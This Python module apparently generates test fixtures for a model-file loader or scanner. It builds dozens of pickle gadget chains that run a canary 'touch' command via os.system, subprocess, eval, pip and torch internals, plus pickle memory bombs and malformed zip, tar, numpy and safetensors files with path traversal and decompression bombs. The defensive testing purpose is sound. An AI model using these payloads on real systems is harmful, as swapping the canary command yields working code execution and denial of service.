"""Hostile files of many kinds, written from scratch; each would create a file `canary` if anything of it were executed."""

from __future__ import annotations

import bz2
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

MARK, STOP, REDUCE, TUPLE, DUP, TUPLE2 = b"(", b".", b"R", b"t", b"2", b"\x86"


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL, which takes dots."""
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    return function + MARK + b"".join(args) + TUPLE + REDUCE


def proto(body: bytes, version: int = 4) -> bytes:
    return b"\x80" + bytes([version]) + body + STOP


def pickles(canary: str) -> dict[str, bytes]:
    """Pickles that execute something when they are loaded."""
    command, code = text(f"touch {canary}"), text(f"open({canary!r}, 'w')")
    system = name("os", "system")
    nested = proto(call(system, command))
    raw = b"C" + bytes([len(nested)]) + nested if len(nested) < 256 else b"B" + struct.pack("<I", len(nested)) + nested
    chains = {
        f"{module}.{attribute}": call(stack_name(module, attribute), argument)
        for module, attribute, argument in (
            ("builtins", "eval", code),
            ("builtins", "exec", code),
            ("__builtin__", "execfile", text(canary)),
            ("posix", "system", command),
            ("nt", "system", command),
            ("subprocess", "getoutput", command),
            ("subprocess", "Popen", command),
            ("pty", "spawn", command),
            ("runpy", "_run_code", code),
            ("runpy", "run_path", text(canary)),
            ("bdb", "Bdb.run", code),
            ("pdb", "run", code),
            ("profile", "run", code),
            ("cProfile", "run", code),
            ("timeit", "timeit", code),
            ("trace", "Trace.run", code),
            ("doctest", "debug_script", code),
            ("code", "InteractiveInterpreter.runsource", code),
            ("codeop", "compile_command", code),
            ("idlelib.run", "Executive.runcode", code),
            ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", code),
            ("distutils.file_util", "write_file", text(canary)),
            ("ensurepip", "_run_pip", command),
            ("pip", "main", command),
            ("uuid", "_get_command_stdout", command),
            ("ctypes", "CDLL", text(canary)),
            ("cffi", "verifier.Verifier", command),
            ("asyncio.unix_events", "_UnixSubprocessTransport._start", command),
            ("pydoc", "pipepager", command),
            ("venv", "create", text(canary)),
            ("sqlite3", "connect", text(canary)),
            ("logging", "FileHandler", text(canary)),
            ("shutil", "rmtree", text(canary)),
            ("pathlib", "Path.touch", text(canary)),
            ("linecache", "getlines", text(canary)),
            ("webbrowser", "open", text(canary)),
            ("importlib", "import_module", text("antigravity")),
            ("zipimport", "zipimporter", text(canary)),
            ("numpy.testing._private.utils", "runstring", code),
            ("numpy.f2py.capi_maps", "getinit", code),
            ("numpy", "fromfile", text(canary)),
            ("numpy", "load", text(canary)),
            ("torch", "load", text(canary)),
            ("torch.hub", "load", text(canary)),
            ("torch.jit.unsupported_tensor_ops", "execWrapper", code),
            ("torch.utils.collect_env", "run", command),
            ("torch.utils._config_module", "load_config", raw),
            ("torch.utils.bottleneck.__main__", "run_cprofile", code),
            ("torch._inductor.codecache", "compile_file", text(canary)),
            ("torch._dynamo.guards", "GuardBuilder.get", code),
            ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", code),
            ("torch.storage", "_load_from_bytes", raw),
            ("torch.distributed.checkpoint.filesystem", "os.system", command),
            ("torch.serialization", "os.system", command),
            ("torch", "serialization.os.system", command),
            ("collections", "abc.sys.modules", command),
            ("pathlib", "os.system", command),
            ("argparse", "_os.system", command),
            ("pickle", "loads", raw),
            ("_pickle", "loads", raw),
            ("dill", "loads", raw),
            ("cloudpickle", "loads", raw),
            ("joblib", "load", text(canary)),
            ("pandas", "read_pickle", text(canary)),
            ("marshal", "loads", raw),
            ("yaml", "unsafe_load", code),
        )
    }
    attribute = name("builtins", "getattr")
    record = name("argparse", "Namespace")
    empty = record + b")R"
    return chains | {
        "reduce": call(system, command),
        "reduce by another name": call(name("__main__", "system"), command),
        "inst": MARK + command + b"ios\nsystem\n",
        "obj": MARK + system + command + b"o",
        "newobj": name("subprocess", "Popen") + command + b"\x85\x81",
        "newobj_ex": name("subprocess", "Popen") + b")" + b"}" + text("args") + command + b"s\x92",
        "build with a class": empty + b"}" + text("__class__") + system + b"sb",
        "build of slots": empty + b"N}" + text("__reduce_ex__") + system + b"s" + TUPLE2 + b"b",
        "build of a function": name("torch", "Size") + b"}" + text("_does") + system + b"sb",
        "setstate": empty + b"}" + text("__setstate__") + system + b"sb" + command + b"b",
        "memo": system + b"q\x00" + b"0" + b"h\x00" + MARK + command + TUPLE + REDUCE,
        "memo written twice": b"Nq\x01" + b"0" + system + b"r\x01\x00\x00\x000" + call(b"j\x01\x00\x00\x00", command),
        "memo under 300 others": b"".join(b"N\x940" for _ in range(300)) + system + b"\x940" + call(b"j\x2c\x01\x00\x00", command),
        "popped": call(system, command) + b"0N",
        "popped with a mark": MARK + call(system, command) + b"1N",
        "key": b"}" + call(system, command) + b"Ns",
        "getattr": call(call(attribute, call(attribute, name("os", "path"), text("os")), text("system")), command),
        "getattr of an allowed name": call(attribute, name("collections", "OrderedDict"), text("__init__")),
        "getattr of a stand-in": call(attribute, name("torch", "Size"), text("_does")),
        "attrgetter": call(call(call(name("operator", "attrgetter"), text("system")), name("posixpath", "os")), command),
        "methodcaller": call(call(name("operator", "methodcaller"), text("system"), command), name("posixpath", "os")),
        "partial": call(call(name("functools", "partial"), system, command)),
        "partial by its state": name("functools", "partial") + system + b"\x85\x81" + MARK + system + MARK + command + TUPLE + b"}Ntb)R",
        "map": call(name("builtins", "list"), call(name("builtins", "map"), system, b"]" + command + b"a")),
        "CodeType": call(call(name("types", "FunctionType"), call(name("types", "CodeType"), b"K\x00"), b"}")),
        "extension 1": b"\x82\x01",
        "extension 2": b"\x83\x01\x00",
        "extension 4": b"\x84\x01\x00\x00\x00",
        "extension that is registered": call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"0" + call(b"\x82\x01", command),
        "persistent id": text("storage") + b"Q",
        "persistent id as text": b"Pstorage\n",
        "persistent id with a function": MARK + text("storage") + system + text("0") + text("cpu") + b"K\x01tQ",
        "bytearray": call(name("builtins", "bytearray"), b"J\xff\xff\xff\x7f"),
        "after the end": b"}" + STOP + proto(call(system, command), 2)[:-1],
        "broken behind": call(system, command) + b"\xff\xff",
        "truncated behind": call(system, command) + b"X\xff\x00\x00\x00ab",
    }  # fmt: skip


def slow() -> dict[str, bytes]:
    """Keys that take years to hash."""
    pair = b"K\x01K\x02\x86"
    return {
        "key of 130 bytes": b"}" + pair + (DUP + TUPLE2) * 60 + b"Ns",
        "key by memo": b"}" + pair + b"".join(b"\x94h" + bytes([n]) + TUPLE2 for n in range(60)) + b"Ns",
        "key that is wide": b"}" + b"".join(MARK + (b"K\x01" if not n else b"h" + bytes([n - 1])) * 200 + b"t\x940" for n in range(6)) + b"h\x05Ns",
    }  # fmt: skip


def bombs() -> dict[str, bytes]:
    """Pickles that ask for memory or time without end."""
    return {
        "long key above many values": b"}" + text("x" * 200_000) + b"]q\x00" + b"(" + b"]" * 20_000 + b"es",
        "long4": b"\x8b\xff\xff\xff\x7f",
        "negative long4": b"\x8b\x00\x00\x00\x80",
        "binbytes8": b"\x8e" + struct.pack("<Q", 1 << 40) + b"a",
        "binunicode8": b"\x8d" + struct.pack("<Q", 1 << 62) + b"a",
        "bytearray8": b"\x96" + struct.pack("<Q", 1 << 35) + b"a",
        "binstring": b"T\xff\xff\xff\xff",
        "frame": b"\x95" + struct.pack("<Q", 1 << 50) + b"N",
        "put": b"Nr\x00\x00\x00\x80",
        "put as text": b"Np99999999999999999999\n",
        "get": b"j\xff\xff\xff\x7f",
        "int as text": b"I" + b"9" * 100_000 + b"\n",
        "long as text": b"L" + b"9" * 1_000_000 + b"L\n",
        "float as text": b"F" + b"1" * 100_000 + b"\n",
        "deep lists": b"]" * 200_000 + b"a" * 199_999,
        "deep tuples": b")" + b"\x85" * 200_000,
        "marks": MARK * 10_000_000,
        "doubling lists": b"]" + b"".join(b"\x94" + b"](h" + bytes([n]) + b"h" + bytes([n]) + b"e" for n in range(200)),
        "frozenset": b"(K\x01\x91" + b"".join(b"\x94(h" + bytes([n]) + b"\x91" for n in range(200)),
        "empty": b"",
    }  # fmt: skip


def archive(file: Path, entries: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(file, "w", compression) as stream:
        for entry, data in entries.items():
            stream.writestr(entry, data)
    return file


#: A state dict with one tensor of four numbers, as torch.save pickles it.
_STORAGE = MARK + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04tQ"
_TENSOR = call(
    name("torch._utils", "_rebuild_tensor_v2"), _STORAGE, b"K\x00", b"K\x04\x85", b"K\x01\x85", b"\x89", b"}"
)
GOOD = {"a/data.pkl": proto(b"}" + text("w") + _TENSOR + b"s", 2), "a/data/0": bytes(range(16))}


def patched(file: Path, marker: bytes, offset: int, value: bytes, *, last: bool = False) -> Path:
    """Change bytes behind a signature of the zip format."""
    data = bytearray(file.read_bytes())
    at = (data.rfind if last else data.find)(marker) + offset
    data[at : at + len(value)] = value
    file.write_bytes(bytes(data))
    return file


def containers(folder: Path, canary: str) -> dict[str, Path]:
    """Archives and other files that lie."""
    evil = proto(call(name("os", "system"), text(f"touch {canary}")))
    local, central, end = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
    found: dict[str, Path] = {}

    def add(title: str, make: Callable[[Path], object], file: str = "model.pt") -> None:
        place = folder / title.replace(" ", "-") / file
        place.parent.mkdir(parents=True)
        make(place)
        found[title] = place

    def changed(marker: bytes, offset: int, value: bytes, *, last: bool = False) -> Callable[[Path], object]:
        return lambda file: patched(archive(file, GOOD), marker, offset, value, last=last)

    add("evil", lambda file: archive(file, {**GOOD, "a/data.pkl": evil}))
    add("second data.pkl", lambda file: _twice(file, evil))
    add("pickle under another name", lambda file: archive(file, {"a/data.pkl": evil, "a/constants.pkl": evil}))
    add("no folder", lambda file: archive(file, {"data.pkl": evil}))
    add("names that lead outside", lambda file: archive(file, {"../data.pkl": evil, "/etc/data/0": b""}))
    add("names with NUL", lambda file: patched(archive(file, {"a/dataXpkl": evil}), b"dataXpkl", 4, b"\0", last=True))
    add("compressed", lambda file: archive(file, {**GOOD, "a/data/0": bytes(1 << 26)}, zipfile.ZIP_DEFLATED))
    add("bzip2 inside", lambda file: archive(file, {**GOOD, "a/data/0": bytes(1 << 20)}, zipfile.ZIP_BZIP2))
    add("compressed only in the local header", changed(local, 8, b"\x08\0"))
    add("encrypted flag", changed(central, 8, b"\x01\0", last=True))
    add("other checksum", changed(central, 16, b"\1\2\3\4", last=True))
    add("other checksum of the pickle", changed(central, 16, b"\1\2\3\4"))
    add("larger in the directory", changed(central, 20, b"\xff\xff\xff\x7f\xff\xff\xff\x7f", last=True))
    add("zip64 without a field", changed(central, 20, b"\xff\xff\xff\xff\xff\xff\xff\xff", last=True))
    add("header elsewhere", changed(central, 42, b"\xf0\xff\xff\x7f", last=True))
    add("long name in the local header", changed(local, 26, b"\xff\xff"))
    add("65535 entries", changed(end, 8, b"\xff\xff\xff\xff"))
    add("directory elsewhere", changed(end, 12, b"\xff\xff\xff\xff\0\0\0\0"))
    add("data in front", lambda file: file.write_bytes(b"#!/bin/sh\n" + archive(file, GOOD).read_bytes()))
    add("data behind", lambda file: file.write_bytes(archive(file, GOOD).read_bytes() + bytes(4000)))
    add("zip64 that lies", lambda file: file.write_bytes(_zip64(archive(file, GOOD).read_bytes())))
    add("storage key outside", lambda file: archive(file, {**GOOD, "a/data.pkl": GOOD["a/data.pkl"].replace(text("0"), text("../../../etc/passwd"))}))  # fmt: skip
    add("bare pickle", lambda file: file.write_bytes(evil))
    add("bare pickle as safetensors", lambda file: file.write_bytes(evil), "model.safetensors")
    add("archive as safetensors", lambda file: archive(file, {"data.pkl": evil}), "model.safetensors")
    add(
        "legacy pickle",
        lambda file: file.write_bytes(b"\x80\x02\x8a\x0a" + b"l\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19." + evil * 3),
    )
    add("bz2", lambda file: file.write_bytes(bz2.compress(evil)), "model.bin")
    add("lzma", lambda file: file.write_bytes(lzma.compress(evil)), "model.bin")
    add("zlib", lambda file: file.write_bytes(zlib.compress(evil)), "model.bin")
    add("tar", lambda file: _tar(file, {"sys_info": evil, "pickle": evil, "storages": evil}))
    add("tar with links", lambda file: _tar(file, {"../../evil": evil}))
    add("numpy", lambda file: file.write_bytes(_npy(evil)), "model.npy")
    add("numpy archive", lambda file: archive(file, {"w.npy": _npy(evil)}), "model.npz")
    add("numpy archive as model", lambda file: archive(file, {"w.npy": _npy(evil)}), "model.pt")
    for title, header in (
        ("huge header", b"\xff\xff\xff\xff\xff\xff\xff\x7f{}"),
        ("header of 4 GB", struct.pack("<Q", 1 << 32) + b"{}"),
        ("deep header", _safetensors(b"[" * 200_000)),
        ("deep object", _safetensors(b'{"a":' * 100_000)),
        ("long number", _safetensors(b'{"a":' + b"9" * 1_000_000 + b"}")),
        ("huge shape", _safetensors(json.dumps({"w": {"dtype": "F32", "shape": [1 << 61] * 200_000, "data_offsets": [0, 16]}}).encode())),
        ("many dimensions", _safetensors(json.dumps({"w": {"dtype": "F32", "shape": [1] * 1_000_000, "data_offsets": [0, 4]}}).encode())),
        ("tensors that overlap", _safetensors(json.dumps({n: {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]} for n in "ab"}).encode())),
        ("hole", _safetensors(json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}).encode())),
        ("names twice", _safetensors(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}')),
        ("NaN as a size", _safetensors(b'{"w":{"dtype":"F32","shape":[NaN],"data_offsets":[0,16]}}')),
        ("infinite size", _safetensors(b'{"w":{"dtype":"F32","shape":[1e999],"data_offsets":[0,16]}}')),
        ("true as a size", _safetensors(b'{"w":{"dtype":"F32","shape":[true],"data_offsets":[0,4]}}')),
    ):  # fmt: skip
        add(f"safetensors with {title}", lambda file, header=header: file.write_bytes(header), "model.safetensors")
    return found


def _safetensors(header: bytes) -> bytes:
    return struct.pack("<Q", len(header)) + header + bytes(16)


def _twice(file: Path, evil: bytes) -> None:
    archive(file, {"a/data.pkl": GOOD["a/data.pkl"], "a/daXa.pkl": evil, "a/data/0": bytes(16)})
    file.write_bytes(file.read_bytes().replace(b"daXa.pkl", b"data.pkl"))


def _zip64(data: bytes) -> bytes:
    """With a 64-bit end whose directory lies at 2**60."""
    at = data.rfind(b"PK\x05\x06")
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1 << 40, 1 << 40, 1 << 50, 1 << 60)
    locator = struct.pack("<IIQI", 0x07064B50, 0, at, 1)
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return data[:at] + end64 + locator + tail


def _tar(file: Path, entries: dict[str, bytes]) -> None:
    with tarfile.open(file, "w") as stream:
        for entry, data in entries.items():
            info = tarfile.TarInfo(entry)
            info.size = len(data)
            stream.addfile(info, io.BytesIO(data))


def _npy(evil: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (64 - (len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil
